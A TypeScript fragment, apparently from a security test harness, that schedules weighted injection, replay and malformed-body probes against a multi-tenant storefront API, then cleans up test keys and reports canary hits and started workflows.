    for (const tenant of tenants) {
      const generators = tenant.storefront === 'bigcommerce' ? bigCommerce : clarity;
      for (const [kind, generate] of Object.entries(generators)) {
        const weight = kind === 'injection' || kind === 'xml-metacharacters' ? 3 : 1;
        for (let n = 0; n < weight; n += 1) {
          slots.push(
            kind === 'replayed'
              ? () =>
                  replayProbe(
                    g,
                    pick(
                      g.random,
                      primes.filter((prime) => prime.tenant === tenant),
                    ),
                  )
              : () => generate(g, tenant),
          );
        }
      }
    }
    const adminContext: AdminContext = {
      a: tenantA!.tenantId,
      aStorefront: tenantA!.storefront,
      b: tenantB?.tenantId,
      disabled: disabledTenantId,
      keys,
      apiUrl: options.apiUrl,
      canaryUrl: canary.url,
      aSettingsVersion: (await readSettings(options.db, tenantA!.tenantId))?.version ?? 1,
    };
    for (const [kind, generate] of Object.entries(admin)) {
      const weight = kind === 'malformed-body' ? 2 : 1;
      for (let n = 0; n < weight; n += 1) slots.push(() => generate(g, adminContext));
    }

    const probes: Probe[] = [];
    for (let index = 0; probes.length < requests; index += 1) {
      const probe = slots[index % slots.length]!();
      if (probe) probes.push(probe);
      if (index > requests * 10) throw new Error('no probe could be generated for these tenants');
    }
    await inBatches(probes, options.concurrency ?? 8, async (probe) => record(probe, await send(options.apiUrl, probe)));
  } finally {
    await Promise.all(keys.ids.map((id) => revokeApiKey(options.db, id, {})));
    report.steeredRequestsReceived = await canary.close();
  }

  if (options.client) {
    const runs = await startedRuns(options.client, countedTenants, startedAt, runsAfterPrimes.size);
    report.workflowsStarted = [...runs].filter((run) => !runsAfterPrimes.has(run)).length;
  } else {
    report.workflowsStarted = dispatched;
  }
  report.controlWorkflows = runsAfterPrimes.size;
  return report;
}
